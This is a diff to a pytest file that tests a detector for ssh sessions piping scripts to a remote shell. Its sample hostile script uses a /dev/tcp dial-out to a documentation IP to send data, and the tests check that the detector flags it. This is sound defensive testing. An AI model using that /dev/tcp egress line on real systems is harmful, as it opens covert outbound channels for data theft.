@@ -237,34 +237,90 @@ def _children(pid: int) -> list[int]:
 
 @pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
 def test_a_script_fed_to_the_remote_shell_on_stdin(tmp_path: Path) -> None:
-    """``ssh host < dial.sh`` (the remote login shell runs it) or ``ssh host bash -s <
-    dial.sh``: a file is read and judged like a remote command; a pipe cannot be read
-    without taking ssh's bytes: reported (medium), not stopped."""
+    """``ssh host < dial.sh`` (the remote login shell runs it), ``ssh host bash -s <
+    dial.sh`` or ``cat dial.sh | ssh host bash``: a file is read, a pipe copied with
+    tee(2), and judged like a remote command: the same verdict."""
     assert SSH is not None
+    dial = "exec 3<>/dev/tcp/203.0.113.33/3333\nprintf 'x' >&3\n"
     script = tmp_path / "dial.sh"
-    script.write_text("exec 3<>/dev/tcp/203.0.113.33/3333\nprintf 'x' >&3\n")
+    script.write_text(dial)
     honest = tmp_path / "setup.sh"
     honest.write_text("cd /srv && make test\n")
     cases = [(script, ["r"], "tunnels.ssh_remote_egress"),
              (script, ["r", "bash", "-s"], "tunnels.ssh_remote_egress"),
              (honest, ["r"], None),
              (script, ["r", "git-upload-pack", "'repo'"], None),  # not a stdin reader
-             (None, ["r", "bash"], "tunnels.ssh_remote_stdin"),
+             (dial, ["r", "bash"], "tunnels.ssh_remote_egress"),  # a pipe, writer done
+             ("cd /srv && make\n", ["r", "bash"], None),
              (None, ["r", "uptime"], None)]
     for source, words, rule in cases:
-        stdin = open(source) if source is not None else subprocess.PIPE  # noqa: SIM115
+        piped = isinstance(source, str)
+        stdin = (subprocess.PIPE if piped or source is None
+                 else open(source))  # noqa: SIM115
         runner = subprocess.Popen([SSH, "-o", "ProxyCommand=sleep 30", *words], stdin=stdin,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         try:
+            if piped:
+                assert runner.stdin is not None
+                runner.stdin.write(str(source).encode())
+                runner.stdin.close()  # the writer is done: the pipe holds the whole script
             _wait_started(runner.pid)
             found = SshExecDetector().observe(Event(
                 kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
                     "proc.name": "ssh", "proc.args": ["ssh", *words], "proc.cwd": "/"}))
             assert [f.rule_id for f in found] == ([rule] if rule else []), (source, words)
-            if rule == "tunnels.ssh_remote_stdin":
-                assert found[0].severity.name == "MEDIUM"
+            if rule:
+                assert found[0].severity.name == "HIGH"
+                assert "stdin script: devtcp" in found[0].message
         finally:
             runner.kill()
             runner.wait()
-            if source is not None:
+            if not piped and source is not None:
                 stdin.close()  # type: ignore[union-attr]
+
+
+@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
+def test_a_pipe_still_being_written_is_judged_on_what_it_holds() -> None:
+    """A writer still holding the pipe: more may come. What is there already is judged
+    (a dial in it: the verdict at once); a clean start is reported when the connection
+    is judged (medium: the rest cannot be read), not at the exec (the writer is usually
+    done by then). The script is copied, never taken: ssh still reads every byte."""
+    assert SSH is not None
+    connect = {"net.decision": "allow", "net.app": "ssh", "net.dst_ip": "203.0.113.33",
+               "net.dst_port": 22}
+    for head, done, exec_rules, connect_rules in (
+            ("exec 3<>/dev/tcp/203.0.113.33/3333\n", False, ["tunnels.ssh_remote_egress"],
+             ["tunnels.ssh_remote_egress"]),
+            ("echo provisioning\n", False, [], ["tunnels.ssh_remote_stdin"]),
+            # the writer closed its end: the script is whole, judged clean, not reported
+            ("echo provisioning\n", True, [], [])):
+        runner = subprocess.Popen([SSH, "-o", "ProxyCommand=sleep 30", "r", "bash"],
+                                  stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
+                                  stderr=subprocess.DEVNULL)
+        try:
+            assert runner.stdin is not None
+            runner.stdin.write(head.encode())
+            runner.stdin.flush()  # written; the write end still open here unless done
+            if done:
+                runner.stdin.close()
+            _wait_started(runner.pid)
+            detector = SshExecDetector()
+            at_exec = detector.observe(Event(
+                kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
+                    "proc.name": "ssh", "proc.args": ["ssh", "r", "bash"], "proc.cwd": "/"}))
+            assert [f.rule_id for f in at_exec] == exec_rules, head
+            at_connect = detector.observe(Event(
+                kind=EventKind.NET_CONNECT, session_id="s", pid=runner.pid, fields=connect))
+            # (the ProxyCommand this test needs is a finding of its own at the connect)
+            remote = [f for f in at_connect if f.rule_id.startswith("tunnels.ssh_remote")]
+            assert [f.rule_id for f in remote] == connect_rules, head
+            if connect_rules == ["tunnels.ssh_remote_stdin"]:
+                assert remote[0].severity.name == "MEDIUM"
+            # nothing was taken from ssh's stdin
+            with open(f"/proc/{runner.pid}/fd/0", "rb", buffering=0) as pipe:
+                os.set_blocking(pipe.fileno(), False)
+                assert pipe.read(4096) == head.encode()
+        finally:
+            runner.kill()
+            runner.wait()
+            runner.stdin.close()  # type: ignore[union-attr]
